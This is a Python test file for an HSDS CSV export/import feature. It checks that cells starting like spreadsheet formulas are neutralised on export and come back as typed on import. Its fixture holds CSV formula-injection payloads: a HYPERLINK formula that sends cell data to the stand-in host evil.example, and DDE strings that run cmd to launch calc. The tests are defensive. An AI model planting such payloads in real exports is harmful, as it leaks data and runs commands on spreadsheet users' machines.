"""An HSDS package is CSV, and people open CSV in a spreadsheet: a cell an admin typed that
starts like a formula (= + - @, a tab or a carriage return) must reach the spreadsheet as
text, and still come back as what was typed when the package is imported."""

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from alongside.accounts.models import Practice
from alongside.core.spreadsheet import FORMULA_STARTS, from_cell, text_cell
from alongside.resources.build import add_service
from alongside.resources.hsds import export_package, import_package
from alongside.resources.models import Service

PAYLOAD = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'


def _cells(files):
    for name, text in files.items():
        if name.endswith(".csv"):
            for row in csv.reader(io.StringIO(text)):
                yield from row


@pytest.fixture
def hostile(db):
    practice = Practice.objects.create(name="Source")
    service = add_service(
        practice,
        PAYLOAD,
        organization="@SUM(1+1)*cmd|' /C calc'!A0",
        description="+cmd|' /C calc'!A0",
        fees_description="-2+3+cmd|' /C calc'!A0",
    )
    service.phones.create(number="+1 555 0100", description="=1+1")
    service.documents.create(document="\t=1+1")
    return practice


def test_no_cell_of_the_export_starts_like_a_formula(hostile):
    for cell in _cells(export_package(hostile)):
        assert cell[:1] not in FORMULA_STARTS, cell


def test_the_neutralised_cells_come_back_as_typed_on_import(hostile):
    empty = Practice.objects.create(name="Empty")
    import_package(empty, export_package(hostile))
    copy = Service.objects.get(practice=empty)
    assert copy.name == PAYLOAD
    assert copy.organization.name == "@SUM(1+1)*cmd|' /C calc'!A0"
    assert copy.description == "+cmd|' /C calc'!A0"
    assert copy.fees_description == "-2+3+cmd|' /C calc'!A0"
    assert copy.phones.get().number == "+1 555 0100"


@settings(max_examples=200)
@given(st.text())
def test_any_text_survives_the_round_trip_through_a_cell(text):
    assert from_cell(text_cell(text)) == text
    assert text_cell(text)[:1] not in FORMULA_STARTS
